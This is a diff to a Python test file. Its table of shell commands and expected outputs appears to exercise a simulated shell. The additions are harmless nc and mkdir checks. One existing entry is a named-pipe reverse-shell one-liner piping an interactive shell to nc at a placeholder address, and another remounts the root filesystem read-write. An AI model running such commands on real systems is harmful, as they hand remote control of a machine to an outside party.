@@ -210,8 +210,12 @@ def test_the_clock_is_the_one_it_was_given(run: Player) -> None:
         ("python3 -c 'import os; print(\"ssh\" in os.listdir(\"/etc\"))'; mount -o remount,rw /; echo $?", "True\n0\n"),
         ("mkfifo f; ls -l f | cut -c1; [ -p f ] && file f; mkfifo f; cat f | sh -i 2>&1 | nc 192.0.2.1 9 >f; echo $?",
          "p\nf: fifo (named pipe)\n1\n"),
+        ("nc 127.0.0.1 9 2>&1; nc -v 127.0.0.1 22 2>&1", "(UNKNOWN) [127.0.0.1] 9 (discard) : Connection refused\n"
+         "localhost [127.0.0.1] 22 (ssh) : Connection refused\n"),
         ("false | true; echo ${PIPESTATUS[*]}; touch -d 2020-01-01 f; date -r f +%F", "1 0\n2020-01-01\n"),
         ("cat /proc/sys/kernel/random/boot_id | wc -c; w -h | wc -l", "37\n1\n"),
+        ("mkdir -p -m 700 a/b; stat -c %a a a/b; mkdir --mode=u=rwx,go= c; stat -c %a c; mkdir -m 9 d; echo $?",
+         "755\n700\n700\n1\n"),
         ("tput cols; tput nosuch; tput setaf 1", "80\n\x1b[31m"),
         ("select x in; do echo never; done; echo $?", "0\n"),
         ("sort <(echo b) <(echo a); systemctl stop nosuch 2>&1 | grep -c 'not loaded'", "a\nb\n1\n"),
